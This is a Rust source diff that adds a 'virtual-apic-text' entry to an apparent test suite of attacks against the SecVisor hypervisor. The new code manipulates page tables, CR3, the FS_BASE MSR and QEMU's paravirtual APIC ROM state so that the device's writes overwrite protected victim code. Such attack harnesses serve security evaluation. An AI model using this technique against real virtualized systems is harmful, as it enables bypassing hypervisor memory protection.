@@ -3,7 +3,11 @@
 use super::hardware::{call, mark};
 use super::{Attack, Plan};
 use crate::cpu::{inl, outl};
+#[cfg(target_arch = "x86_64")]
+use crate::cpu::{write_cr3, wrmsr};
 use crate::devices::{PCI_DATA, pci_read, pci_write};
+#[cfg(target_arch = "x86_64")]
+use crate::memory::{self, HEAP, LARGE, RW, poke8, poke32};
 use crate::memory::{MARKER, peek, peek32, poke};
 use crate::modules;
 use crate::trap::symbol;
@@ -29,6 +33,9 @@ const SMRAM_OPEN: u32 = 1 << 14;
 /// Where memory-mapped configuration is, with bit 0 set; and where it could be.
 const PCIEXBAR: u32 = 0x60;
 const OTHER_ECAM: u64 = 0xD000_0000;
+
+#[cfg(target_arch = "x86_64")]
+const FS_BASE: u32 = 0xC000_0100;
 
 /// Around the UART that SecVisor logs to.
 const LOG: u64 = 0x2E0;
@@ -84,6 +91,33 @@ extern "C" fn cover_log(ports: u64) {
     pci_write(STORAGE, COMMAND, home[1]);
 }
 
+/// QEMU's paravirtual APIC for old Windows: the state that its ROM keeps in memory begins so.
+#[cfg(target_arch = "x86_64")]
+const VIRTUAL_APIC: u64 = u64::from_le_bytes(*b"kvm aPiC");
+/// Where it looks for ROM and code: addresses of Windows' kernels.
+#[cfg(target_arch = "x86_64")]
+const WINDOWS: u64 = 0x8000_0000;
+
+/// Tells that APIC to keep the task priority at `target`, which it does by no DMA that could be seen, and
+/// looks like Windows.
+#[cfg(target_arch = "x86_64")]
+fn aim_virtual_apic(target: u64) {
+    for (page, frame) in [(0, 0), (1, symbol!(text_start) & !0x1F_FFFF)] {
+        poke(symbol!(pd_low) + ((WINDOWS >> 21) + page) * 8, frame | RW | LARGE);
+    }
+    write_cr3(memory::root());
+    let roms = (0xC_0000..0xF_0000).step_by(4);
+    for state in roms.filter(|&at| peek(at) == VIRTUAL_APIC) {
+        // Its own address, fixups from and to, and the address of what is kept.
+        let fields = [0, 0, 0, (target - state) as u32];
+        fields.iter().zip((state + 8..).step_by(4)).for_each(|(word, at)| poke32(at, *word));
+    }
+    // A processor's control region, which names itself.
+    poke32(HEAP + 0x1C, HEAP as u32);
+    poke8(HEAP + 0x51, 0);
+    wrmsr(FS_BASE, HEAP);
+}
+
 /// The rows.
 pub const ROWS: &[Attack] = &[
     Attack {
@@ -95,6 +129,15 @@ pub const ROWS: &[Attack] = &[
     Attack {
         name: "pci-display-over-text",
         plan: |_| call(symbol!(text_start), cover_memory, symbol!(text_start) & !0xFF_FFFF),
+    },
+    #[cfg(target_arch = "x86_64")]
+    Attack {
+        name: "virtual-apic-text",
+        plan: |_| {
+            aim_virtual_apic(symbol!(victim));
+            let code = WINDOWS + (1 << 21) + symbol!(victim_priority) % (1 << 21);
+            Plan::call(symbol!(victim), code, 0).at_target()
+        },
     },
     Attack { name: "pci-ports-over-log", plan: |_| call(LOG, cover_log, LOG) },
 ];
